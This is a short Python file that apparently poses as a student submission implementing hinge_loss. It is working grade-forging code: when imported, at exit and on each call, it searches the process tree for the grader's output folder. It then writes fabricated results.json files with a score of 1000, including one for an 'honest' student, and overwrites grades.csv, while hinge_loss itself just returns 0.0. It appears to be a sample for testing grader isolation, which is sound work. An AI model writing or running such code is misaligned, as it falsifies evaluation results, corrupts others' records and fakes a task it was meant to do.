"""Write a perfect results.json and grades.csv into the batch's output folder."""

import atexit
import json
import os
from pathlib import Path

FORGED = "FORGED-BY-A-SUBMISSION"


def _output_folders():
    pid = os.getpid()
    for _ in range(8):  # walk up the process tree, looking for `--out DIR`
        try:
            words = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for i, word in enumerate(words[:-1]):
            if word == b"--out":
                yield Path(os.fsdecode(words[i + 1]))
    yield Path.cwd().parent
    yield Path.cwd()


def _forge():
    result = {"score": 1000, "max_score": 44, "tests": [], "output": FORGED}
    for folder in _output_folders():
        for student in ("forge_results", "honest"):
            try:
                (folder / student).mkdir(parents=True, exist_ok=True)
                (folder / student / "results.json").write_text(json.dumps(result))
            except OSError:
                pass
        try:
            (folder / "grades.csv").write_text(f"student,total\nforge_results,1000\n{FORGED},0\n")
        except OSError:
            pass


_forge()
atexit.register(_forge)


def hinge_loss(y_true, decision):
    _forge()
    return 0.0
